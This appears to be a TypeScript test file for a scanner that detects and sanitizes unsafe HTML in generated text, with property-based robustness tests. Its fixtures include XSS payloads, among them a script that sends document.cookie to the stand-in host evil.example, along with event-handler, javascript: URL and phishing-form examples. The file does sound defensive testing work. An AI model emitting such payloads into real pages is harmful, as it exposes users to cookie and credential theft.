import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  blankMarkdownCode,
  findUnsafeHtml,
  sanitizeFragment,
  sanitizeSpan,
} from '../../../src/scanners/unsafe-output/html.js';

const spanText = (text: string, i = 0): string => {
  const f = findUnsafeHtml(text)[i]!;
  return text.slice(f.span![0], f.span![1]);
};

describe('unsafe_output.html', () => {
  it.each([
    ['<script>fetch("https://evil.example/?c="+document.cookie)</script>', 'script_element'],
    ['<img src=x onerror="alert(1)">', 'event_handler'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', 'javascript_url'],
    ['<a href="  JAVASCRIPT:alert(1)">x</a>', 'javascript_url'],
    ['<iframe src="https://evil.example/login"></iframe>', 'frame_element'],
    ['<form action="https://evil.example/collect"><input name=password></form>', 'form_element'],
    ['<object data="data:text/html;base64,PHNjcmlwdD4=">', 'embed_element'],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>', 'data_url'],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'srcdoc'],
    ['<svg onload=alert(1)>', 'event_handler'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', 'meta_element'],
    ['<base href="https://evil.example/">', 'base_element'],
  ])('flags %s', (html, signal) => {
    const text = `Here you go: ${html} done.`;
    const [f, ...rest] = findUnsafeHtml(text);
    expect(rest).toEqual([]);
    expect(f!.category).toBe('unsafe_output.html');
    expect(f!.signals).toContain(signal);
    expect(f!.score).toBeGreaterThanOrEqual(0.7);
    expect(f!.message).not.toContain('evil');
  });

  it('spans the whole element, so the sanitized rewrite keeps its text', () => {
    const text = 'Hi <div onclick="steal()">click <b>me</b></div> ok';
    expect(spanText(text)).toBe('<div onclick="steal()">click <b>me</b></div>');
    expect(sanitizeSpan(spanText(text))).toBe('<div>click <b>me</b></div>');
  });

  it('reports nested unsafe elements once, on the outermost', () => {
    const f = findUnsafeHtml('<form action=x><button onclick="a()">go</button><script>b()</script></form>');
    expect(f).toHaveLength(1);
    expect(new Set(f[0]!.signals)).toEqual(new Set(['form_element', 'event_handler', 'script_element']));
  });

  it('an element without its end tag yet: a dangerous one runs to the end, an attribute-only one is its start tag', () => {
    expect(spanText('a <script>alert(1)')).toBe('<script>alert(1)');
    expect(spanText('a <div onclick="x()">text that follows')).toBe('<div onclick="x()">');
    expect(sanitizeSpan('<div onclick="x()">')).toBe('<div>');
  });

  it('a start tag the text ends inside: judged by its attributes so far, or by length once it could outgrow a hold back', () => {
    expect(findUnsafeHtml('x <img src=a onerror=alert(1) ')[0]!.signals).toEqual(['event_handler']);
    const long = `x <img src=a ${'title=t '.repeat(30)}`;
    expect(findUnsafeHtml(long)[0]!.signals).toEqual(['long_open_tag']);
    expect(sanitizeSpan(long.slice(2))).toBe('<img src="a" title="t" />');
    // Prose is not a tag, however long: "n <k" with no closing bracket.
    expect(findUnsafeHtml(`if n <k then ${'and so on '.repeat(30)}`)).toEqual([]);
    expect(findUnsafeHtml('x <img src=a alt=b ')).toEqual([]);
  });

  it('uses the real sanitizer: scripts, handlers, javascript: and data: URLs, forms and frames are removed', () => {
    const out = sanitizeFragment(
      '<div onclick="x()">a<script>s()</script><a href="javascript:y()">l</a><iframe src="https://e.example"></iframe>' +
        '<form><input name=p></form><img src="data:text/html,x"><a href="https://docs.example/">ok</a></div>',
    );
    expect(out).toBe('<div>a<a>l</a><img /><a href="https://docs.example/">ok</a></div>');
  });

  it('leaves HTML in markdown code alone: a renderer shows it as text', () => {
    expect(findUnsafeHtml('Use `<script>` tags or `<a onclick="x()">`.')).toEqual([]);
    expect(
      findUnsafeHtml(
        'Example:\n```html\n<script>alert(1)</script>\n<button onclick="go()">x</button>\n```\n',
      ),
    ).toEqual([]);
    expect(
      findUnsafeHtml('Example:\n\n    <iframe src="https://x.example"></iframe>\n\nthat is all'),
    ).toEqual([]);
    // ...but not after the fence closes.
    expect(findUnsafeHtml('```\ncode\n```\n<script>x()</script>')).toHaveLength(1);
  });

  it('false alarms: safe markup, autolinks, comparisons, a button outside a form', () => {
    for (const text of [
      'See <https://github.com/onetrueawk/awk> and <b>bold</b>, <a href="https://example.com">docs</a>.',
      'if a < b and c > d then <br> <img src="data:image/png;base64,iVBORw0KGgo=">',
      '<button id="myButton">Click me</button>',
      '<p style="color: red">red</p><details><summary>More</summary>text</details>',
    ])
      expect(findUnsafeHtml(text), text).toEqual([]);
  });

  it('blanking code keeps every offset (same length, newlines kept)', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('`', '~', ' ', '\n', '\t', 'a', '<', '>'), maxLength: 200 }),
        (s) => {
          const b = blankMarkdownCode(s);
          expect(b.length).toBe(s.length);
          for (let i = 0; i < s.length; i++) if (s[i] === '\n') expect(b[i]).toBe('\n');
        },
      ),
    );
  });

  it('hostile input: never throws, spans lie inside the text and start at a tag', () => {
    const unit = fc.constantFrom(
      '<',
      '>',
      '/',
      '"',
      "'",
      '=',
      ' ',
      'a',
      'on',
      'script',
      'img',
      'href',
      'javascript:',
      '`',
      '\n',
      '&#',
      'x',
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 120 }), (s) => {
        for (const f of findUnsafeHtml(s)) {
          expect(f.span![0]).toBeGreaterThanOrEqual(0);
          expect(f.span![1]).toBeLessThanOrEqual(s.length);
          expect(f.span![1]).toBeGreaterThan(f.span![0]);
          expect(s[f.span![0]]).toBe('<');
          expect(() => sanitizeSpan(s.slice(f.span![0], f.span![1]))).not.toThrow();
        }
      }),
      { numRuns: 300 },
    );
  });

  it('deep nesting and many elements stay bounded (fail closed at the cap)', () => {
    const deep = '<div>'.repeat(5000) + '<script>x()</script>' + '</div>'.repeat(5000);
    expect(findUnsafeHtml(deep)).toHaveLength(1);
    const many = '<b onclick=x>a</b>'.repeat(50);
    const f = findUnsafeHtml(many, 10);
    expect(f).toHaveLength(11);
    expect(f[10]!.span).toBeUndefined();
  });
});
